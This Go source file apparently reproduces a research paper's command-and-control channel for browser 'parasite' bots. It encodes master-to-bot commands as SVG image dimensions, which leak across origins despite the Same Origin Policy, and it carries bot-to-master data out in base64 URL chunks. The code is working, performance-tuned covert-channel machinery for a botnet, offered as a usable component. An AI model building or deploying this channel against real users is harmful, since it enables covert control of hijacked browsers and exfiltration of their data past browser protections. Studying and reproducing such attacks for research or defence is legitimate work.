// Package cnc implements the paper's bi-directional command-and-control
// channel (§VI-C, Fig. 4).
//
// Downstream (master → parasite) the channel abuses an HTTP information
// leak: when a page issues a cross-origin image request, the Same Origin
// Policy hides the pixels but exposes the image *dimensions* so the page
// can lay itself out. Each image therefore leaks two values in [0,65535]
// — 4 bytes. The images are SVG so the wire cost stays around 100 bytes
// per 4 payload bytes, and fetching many images concurrently yields a
// usable channel (the paper measures 100 KB/s).
//
// Upstream (parasite → master) data is encoded into request URLs, which
// carries no comparable bandwidth limit.
//
// The codec streams: every encoder has an Append form that writes into a
// caller-supplied buffer, and the decoders parse in place, so the hot
// paths (the master server rendering images, the bot decoding them) run
// without intermediate strings or slices.
package cnc

import (
	"encoding/base64"
	"errors"
	"fmt"
	"slices"
	"strconv"
)

// MaxDim is the largest dimension browsers accept; anything larger is
// downgraded to this value ("once the dimension is over 65,535, the
// browsers will downgrade it to this value"), so the alphabet per axis is
// [0, 65535].
const MaxDim = 65535

// BytesPerImage is the payload each image carries: two uint16 dimensions.
const BytesPerImage = 4

// Dim is one image's width and height.
type Dim struct {
	W uint16
	H uint16
}

// Clamp applies the browser downgrade rule to an arbitrary dimension.
func Clamp(v int) uint16 {
	if v < 0 {
		return 0
	}
	if v > MaxDim {
		return MaxDim
	}
	return uint16(v)
}

// EncodeDims converts a message into a sequence of image dimensions. The
// message is framed with a 4-byte big-endian length prefix so the decoder
// can strip padding.
func EncodeDims(msg []byte) []Dim {
	return AppendDims(make([]Dim, 0, ImagesNeeded(len(msg))), msg)
}

// AppendDims appends msg's image dimensions to dst and returns the
// result. The virtual framed stream (length prefix, message, zero
// padding) is walked directly — no framing buffer is materialised.
func AppendDims(dst []Dim, msg []byte) []Dim {
	byteAt := func(i int) byte {
		if i < 4 {
			return byte(uint32(len(msg)) >> (8 * (3 - i)))
		}
		if i -= 4; i < len(msg) {
			return msg[i]
		}
		return 0 // padding
	}
	for img, n := 0, ImagesNeeded(len(msg)); img < n; img++ {
		base := img * BytesPerImage
		dst = append(dst, Dim{
			W: uint16(byteAt(base))<<8 | uint16(byteAt(base+1)),
			H: uint16(byteAt(base+2))<<8 | uint16(byteAt(base+3)),
		})
	}
	return dst
}

// Errors returned by the decoders.
var (
	ErrTruncated = errors.New("cnc: truncated dimension stream")
	ErrBadSVG    = errors.New("cnc: not a channel SVG")
)

// framedLen validates the stream's length prefix and returns the framed
// message length.
func framedLen(dims []Dim) (int, error) {
	raw := len(dims) * BytesPerImage
	if raw < 4 {
		return 0, fmt.Errorf("%w: %d bytes", ErrTruncated, raw)
	}
	n := int(uint32(dims[0].W)<<16 | uint32(dims[0].H))
	if n > raw-4 {
		return 0, fmt.Errorf("%w: frame wants %d bytes, have %d", ErrTruncated, n, raw-4)
	}
	return n, nil
}

// DecodeDims reverses EncodeDims into one exact-size allocation.
func DecodeDims(dims []Dim) ([]byte, error) {
	n, err := framedLen(dims)
	if err != nil {
		return nil, err
	}
	return AppendDecodeDims(make([]byte, 0, n), dims)
}

// AppendDecodeDims appends the message framed in dims to dst and returns
// the result, reading the dimension stream in place. The 4-byte length
// prefix occupies exactly the first image, so the payload is the
// remaining dims' bytes, four at a time.
func AppendDecodeDims(dst []byte, dims []Dim) ([]byte, error) {
	need, err := framedLen(dims)
	if err != nil {
		return nil, err
	}
	for i := 1; need > 0 && i < len(dims); i++ {
		d := dims[i]
		quad := [BytesPerImage]byte{byte(d.W >> 8), byte(d.W), byte(d.H >> 8), byte(d.H)}
		take := need
		if take > BytesPerImage {
			take = BytesPerImage
		}
		dst = append(dst, quad[:take]...)
		need -= take
	}
	return dst, nil
}

// ImagesNeeded reports how many images carry a message of n bytes.
func ImagesNeeded(n int) int {
	framed := n + 4
	return (framed + BytesPerImage - 1) / BytesPerImage
}

// svgOpen, svgMid, svgClose spell the historical Sprintf format of the
// channel SVG; the rendered bytes are locked by the round-trip tests.
const (
	svgOpen  = `<svg xmlns="http://www.w3.org/2000/svg" width="`
	svgMid   = `" height="`
	svgClose = `"></svg>`
)

// RenderSVG produces the ~100-byte SVG whose only information content is
// its dimensions ("An SVG image, having no actual content, is of size 100
// bytes").
func RenderSVG(d Dim) []byte {
	return AppendSVG(make([]byte, 0, len(svgOpen)+len(svgMid)+len(svgClose)+10), d)
}

// AppendSVG appends the channel SVG for d to dst and returns the result.
func AppendSVG(dst []byte, d Dim) []byte {
	dst = append(dst, svgOpen...)
	dst = strconv.AppendUint(dst, uint64(d.W), 10)
	dst = append(dst, svgMid...)
	dst = strconv.AppendUint(dst, uint64(d.H), 10)
	return append(dst, svgClose...)
}

// isSpace matches the characters regexp's \s class accepts.
func isSpace(c byte) bool {
	return c == ' ' || c == '\t' || c == '\n' || c == '\r' || c == '\v' || c == '\f'
}

// parseDimInt reads a decimal run starting at svg[i]. It mirrors how the
// historical regexp+strconv.Atoi pair behaved: matching is structural
// (any non-empty digit run matches, ok=true), and only the *winning*
// match's values were ever handed to Atoi — so an out-of-range run still
// matches here and reports overflow for the caller to surface then.
func parseDimInt(svg []byte, i int) (v, end int, ok, overflow bool) {
	start := i
	n := int64(0)
	for i < len(svg) && svg[i] >= '0' && svg[i] <= '9' {
		if n > (1<<63-1-9)/10 {
			overflow = true // out of the Atoi range; keep consuming digits
		} else {
			n = n*10 + int64(svg[i]-'0')
		}
		i++
	}
	if n > MaxDim {
		n = MaxDim + 1 // anything past the clamp ceiling is equivalent
	}
	return int(n), i, i > start, overflow
}

// parseSVGAt extracts the `\swidth="(\d+)"\s+height="(\d+)"` attribute
// pair from the tag opening at svg[at:] (which must start with "<svg").
// Attribute search stops at the tag's closing '>'.
func parseSVGAt(svg []byte, at int) (d Dim, end int, err error) {
	i := at + len("<svg")
	for {
		// Find a whitespace-preceded `width="` before the tag closes.
		for i < len(svg) && svg[i] != '>' && !(isSpace(svg[i]) && hasPrefixAt(svg, i+1, `width="`)) {
			i++
		}
		if i >= len(svg) || svg[i] == '>' {
			return Dim{}, i, ErrBadSVG
		}
		i += 1 + len(`width="`)
		w, j, ok, wOver := parseDimInt(svg, i)
		if !ok || j >= len(svg) || svg[j] != '"' {
			i = j // backtrack: keep looking for a later width attribute
			continue
		}
		j++
		k := j
		for k < len(svg) && isSpace(svg[k]) {
			k++
		}
		if k == j || !hasPrefixAt(svg, k, `height="`) {
			i = j
			continue
		}
		k += len(`height="`)
		h, m, ok, hOver := parseDimInt(svg, k)
		if !ok || m >= len(svg) || svg[m] != '"' {
			i = k
			continue
		}
		// Structural match found — only now do the captured values get
		// range-checked, exactly when Atoi used to run.
		if wOver {
			return Dim{}, m, fmt.Errorf("%w: width", ErrBadSVG)
		}
		if hOver {
			return Dim{}, m, fmt.Errorf("%w: height", ErrBadSVG)
		}
		return Dim{W: Clamp(w), H: Clamp(h)}, m + 1, nil
	}
}

func hasPrefixAt(b []byte, i int, prefix string) bool {
	if i+len(prefix) > len(b) {
		return false
	}
	for j := 0; j < len(prefix); j++ {
		if b[i+j] != prefix[j] {
			return false
		}
	}
	return true
}

// ParseSVG extracts the dimensions from a channel SVG, applying the
// browser clamp — this is what the victim browser exposes to the page.
// The scan is a hand-written equivalent of the historical regexp
// (`<svg[^>]*\swidth="(\d+)"\s+height="(\d+)"`) and allocates nothing.
func ParseSVG(svg []byte) (Dim, error) {
	for at := 0; at+len("<svg") <= len(svg); at++ {
		if !hasPrefixAt(svg, at, "<svg") {
			continue
		}
		d, _, err := parseSVGAt(svg, at)
		if err == nil {
			return d, nil
		}
		if err != ErrBadSVG {
			// The structurally-first match carries an out-of-range digit
			// run: this is where the historical parser's Atoi failed.
			return Dim{}, err
		}
	}
	return Dim{}, ErrBadSVG
}

// Batched downstream -----------------------------------------------------

// batchOpen and batchClose wrap a batch of channel SVGs into one sprite
// document: each nested <svg> tile carries one image's dimensions. One
// sprite fetch stands in for a browser multiplexing many simultaneous
// image requests over a single connection, which is what makes the bulk
// downstream path RTT-efficient.
const (
	batchOpen  = `<svg xmlns="http://www.w3.org/2000/svg">`
	batchClose = `</svg>`

	// maxTileLen bounds one rendered sprite tile
	// (`<svg width="65535" height="65535"></svg>`).
	maxTileLen = len(`<svg width="`) + 5 + len(svgMid) + 5 + len(svgClose)
)

// AppendBatchSVG appends the sprite document carrying dims to dst.
func AppendBatchSVG(dst []byte, dims []Dim) []byte {
	dst = append(dst, batchOpen...)
	for _, d := range dims {
		dst = append(dst, `<svg width="`...)
		dst = strconv.AppendUint(dst, uint64(d.W), 10)
		dst = append(dst, svgMid...)
		dst = strconv.AppendUint(dst, uint64(d.H), 10)
		dst = append(dst, svgClose...)
	}
	return append(dst, batchClose...)
}

// ParseBatchSVG appends every tile's dimensions in document order to dst.
// A plain (non-sprite) channel SVG decodes as a batch of one.
func ParseBatchSVG(dst []Dim, svg []byte) ([]Dim, error) {
	n := len(dst)
	at := 0
	for at+len("<svg") <= len(svg) {
		if !hasPrefixAt(svg, at, "<svg") {
			at++
			continue
		}
		d, end, err := parseSVGAt(svg, at)
		if err != nil {
			// The sprite wrapper itself has no width/height; skip it.
			at += len("<svg")
			continue
		}
		dst = append(dst, d)
		at = end
	}
	if len(dst) == n {
		return dst, ErrBadSVG
	}
	return dst, nil
}

// Upstream URL channel ------------------------------------------------

// DefaultChunkSize is the payload carried per upstream request URL. URLs
// have no hard protocol limit but middleboxes commonly cap around 2 KB;
// 1024 payload bytes encode to ~1366 URL characters.
const DefaultChunkSize = 1024

// EncodeURLChunks splits data into URL-safe base64 path segments of at
// most chunkSize payload bytes each.
func EncodeURLChunks(data []byte, chunkSize int) []string {
	if chunkSize <= 0 {
		chunkSize = DefaultChunkSize
	}
	var out []string
	for len(data) > 0 {
		n := chunkSize
		if n > len(data) {
			n = len(data)
		}
		out = append(out, base64.RawURLEncoding.EncodeToString(data[:n]))
		data = data[n:]
	}
	if len(out) == 0 {
		out = []string{""}
	}
	return out
}

// AppendURLChunk appends the URL-safe encoding of one chunk to dst and
// returns the result — the streaming form of EncodeURLChunks for callers
// assembling request URLs in a reused buffer.
func AppendURLChunk(dst, chunk []byte) []byte {
	n := base64.RawURLEncoding.EncodedLen(len(chunk))
	dst = slices.Grow(dst, n)
	out := dst[:len(dst)+n]
	base64.RawURLEncoding.Encode(out[len(dst):], chunk)
	return out
}

// DecodeURLChunk reverses one chunk.
func DecodeURLChunk(chunk string) ([]byte, error) {
	b, err := base64.RawURLEncoding.DecodeString(chunk)
	if err != nil {
		return nil, fmt.Errorf("cnc: bad upstream chunk: %w", err)
	}
	return b, nil
}
